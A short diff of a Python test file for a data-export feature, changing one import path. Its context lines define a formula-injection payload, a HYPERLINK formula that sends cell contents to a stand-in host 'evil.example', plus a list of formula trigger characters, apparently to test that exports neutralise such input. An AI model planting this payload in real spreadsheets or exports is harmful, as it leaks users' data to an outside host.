@@ -11,7 +11,7 @@ import pytest
 
 from flows.outputs.exports import MAX_NAME_BYTES, export, fitted_name
 from flows.outputs.exports.raven import read_selection_table
-from seed_catalog import ROBIN, Call, Seed
+from tests.support.seed_catalog import ROBIN, Call, Seed
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
